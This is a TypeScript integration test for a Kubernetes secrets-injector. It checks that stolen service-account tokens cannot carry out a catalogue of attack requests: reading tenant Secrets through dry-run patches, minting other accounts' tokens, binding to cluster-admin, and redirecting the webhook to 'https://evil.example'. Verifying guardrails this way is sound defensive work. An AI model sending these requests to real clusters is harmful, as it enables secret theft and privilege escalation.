import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { connect, type Api } from './harness/api.ts';
import { type Cluster, startCluster } from './harness/cluster.ts';
import { eventually } from './harness/eventually.ts';
import { CHART, Installation } from './harness/installation.ts';
import { mintToken } from './harness/service-account.ts';

const OURS = 'tbot-system';
const MERGE = 'application/merge-patch+json';
const APPLY = 'application/apply-patch+yaml';
const RBAC = '/apis/rbac.authorization.k8s.io/v1';
const ADMISSION = '/apis/admissionregistration.k8s.io/v1';

/** A request of an attacker who holds a stolen token: method, path, body and its type. */
type Attempt = readonly [method: string, path: string, body?: object, type?: string];

const secret = (namespace: string, name: string): string => `/api/v1/namespaces/${namespace}/secrets/${name}`;
const named = (name: string, rest: object = {}): object => ({ metadata: { name }, ...rest });

/** Requests beyond the rights of all our accounts. */
const BEYOND_EVERY_ACCOUNT: Readonly<Record<string, Attempt>> = {
  'reads every Secret': ['GET', '/api/v1/secrets'],
  'reads a Secret of a tenant': ['GET', secret('payments', 'own')],
  'reads a Secret by an empty patch': ['PATCH', `${secret('payments', 'own')}?dryRun=All`, {}, MERGE],
  'reads a Secret by a dry deletion': ['DELETE', `${secret('payments', 'own')}?dryRun=All`],
  'reads the token of another account': [
    'POST',
    `/api/v1/namespaces/${OURS}/serviceaccounts/tbot-injector-bot-payments/token`,
    { spec: {} },
  ],
  'makes a Secret that Kubernetes fills with a token': [
    'POST',
    `/api/v1/namespaces/${OURS}/secrets`,
    {
      metadata: {
        name: 'minted',
        annotations: { 'kubernetes.io/service-account.name': 'tbot-injector-controller' },
      },
      type: 'kubernetes.io/service-account-token',
    },
  ],
  'binds itself to everything': [
    'POST',
    `${RBAC}/clusterrolebindings`,
    named('all', {
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
      subjects: [{ kind: 'ServiceAccount', name: 'tbot-injector-webhook', namespace: OURS }],
    }),
  ],
  'makes a webhook of its own': [
    'POST',
    `${ADMISSION}/mutatingwebhookconfigurations`,
    named('mine', { webhooks: [] }),
  ],
  'takes a policy away': ['DELETE', `${ADMISSION}/validatingadmissionpolicies/tbot-injector-guard`],
  'opts a namespace in': [
    'PATCH',
    '/api/v1/namespaces/payments',
    { metadata: { labels: { 'tbot-injector.io/injection': 'enabled' } } },
    MERGE,
  ],
  'changes the configuration': [
    'PATCH',
    `/api/v1/namespaces/${OURS}/configmaps/tbot-injector-config`,
    { data: {} },
    MERGE,
  ],
  'runs a pod': [
    'POST',
    `/api/v1/namespaces/${OURS}/pods`,
    named('mine', { spec: { containers: [{ name: 'a', image: 'a' }] } }),
  ],
};

/** Requests within the rights of the controller, which the guardrails refuse. */
const WITHIN_CONTROLLER_RIGHTS: Readonly<Record<string, Attempt>> = {
  'reads a tenant’s Secret of a declared name by an empty patch': [
    'PATCH',
    `${secret('payments', 'tbot-payments-db')}?dryRun=All`,
    {},
    MERGE,
  ],
  'puts labels on it': [
    'PATCH',
    `${secret('payments', 'tbot-payments-db')}?fieldManager=tbot-injector&force=true`,
    {
      apiVersion: 'v1',
      kind: 'Secret',
      metadata: { name: 'tbot-payments-db', labels: { 'app.kubernetes.io/managed-by': 'tbot-injector' } },
    },
    APPLY,
  ],
  'creates a declared Secret in a namespace that has not opted in': [
    'PATCH',
    `${secret('kube-system', 'tbot-payments-db')}?fieldManager=x`,
    { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'tbot-payments-db' } },
    APPLY,
  ],
  'binds a bot in kube-system': [
    'PATCH',
    `${RBAC}/namespaces/kube-system/rolebindings/tbot-injector-bot-payments?fieldManager=x`,
    {
      apiVersion: 'rbac.authorization.k8s.io/v1',
      kind: 'RoleBinding',
      metadata: { name: 'tbot-injector-bot-payments' },
      roleRef: {
        apiGroup: 'rbac.authorization.k8s.io',
        kind: 'ClusterRole',
        name: 'tbot-injector-bot-payments',
      },
      subjects: [{ kind: 'ServiceAccount', name: 'tbot-injector-controller', namespace: OURS }],
    },
    APPLY,
  ],
  'sends every pod of the cluster to itself': [
    'PATCH',
    `${ADMISSION}/mutatingwebhookconfigurations/tbot-injector`,
    [{ op: 'remove', path: '/webhooks/0/namespaceSelector' }],
    'application/json-patch+json',
  ],
  'has reviews sent elsewhere': [
    'PATCH',
    `${ADMISSION}/mutatingwebhookconfigurations/tbot-injector`,
    [{ op: 'replace', path: '/webhooks/0/clientConfig', value: { url: 'https://evil.example' } }],
    'application/json-patch+json',
  ],
  'exchanges the image of tbot': [
    'PATCH',
    `/apis/apps/v1/namespaces/${OURS}/deployments/tbot-injector-bot-payments-0`,
    { spec: { template: { spec: { serviceAccountName: 'tbot-injector-controller' } } } },
    MERGE,
  ],
};

describe.skipIf(inject('programs').kind === 'missing')(
  'an attacker with the token',
  { timeout: 120_000 },
  () => {
    let cluster: Cluster;
    const apis = new Map<string, { api: Api; close: () => void }>();

    beforeAll(async () => {
      cluster = await startCluster();
      await cluster.createNamespace('payments');
      await cluster.api(
        'POST',
        '/api/v1/namespaces/payments/secrets',
        named('own', { stringData: { a: 'b' } }),
      );
      await cluster.api(
        'POST',
        '/api/v1/namespaces/payments/secrets',
        named('tbot-payments-db', { stringData: { a: 'b' } }),
      );
      const valueFiles = [join(CHART, 'examples/team-bots.yaml')];
      await new Installation(cluster, OURS, { valueFiles }).install();
      for (const account of ['webhook', 'controller', 'bot-payments']) {
        const token = await mintToken(cluster, { namespace: OURS, name: `tbot-injector-${account}` });
        apis.set(account, connect(cluster.url, cluster.ca, { token }));
      }
      // Policies take effect some time after they are made.
      const [first] = Object.values(WITHIN_CONTROLLER_RIGHTS);
      await eventually('the guardrails are in force', async () =>
        first !== undefined && (await attemptAs('controller', first)) >= 400 ? true : undefined,
      );
      await sleep(1_000);
    });

    afterAll(async () => {
      for (const { close } of apis.values()) close();
      await cluster.stop();
    });

    async function attemptAs(account: string, [method, path, body, type]: Attempt): Promise<number> {
      const { status } = (await apis.get(account)?.api(method, path, body, type)) ?? { status: 0 };
      return status;
    }

    describe.each(['webhook', 'controller', 'bot-payments'])('of the %s', (account) => {
      it.each(Object.entries(BEYOND_EVERY_ACCOUNT))('%s: refused', async (_, attempt) => {
        expect(await attemptAs(account, attempt)).toBe(403);
      });
    });

    describe('of the controller, where its rights would allow it', () => {
      it.each(Object.entries(WITHIN_CONTROLLER_RIGHTS))('%s: refused', async (_, attempt) => {
        // A policy answers with 422, RBAC with 403.
        expect([403, 422]).toContain(await attemptAs('controller', attempt));
      });
    });

    describe.each(['webhook', 'bot-payments'])('of the %s', (account) => {
      it.each(Object.entries(WITHIN_CONTROLLER_RIGHTS))('%s: refused', async (_, attempt) => {
        expect(await attemptAs(account, attempt)).toBe(403);
      });
    });
  },
);
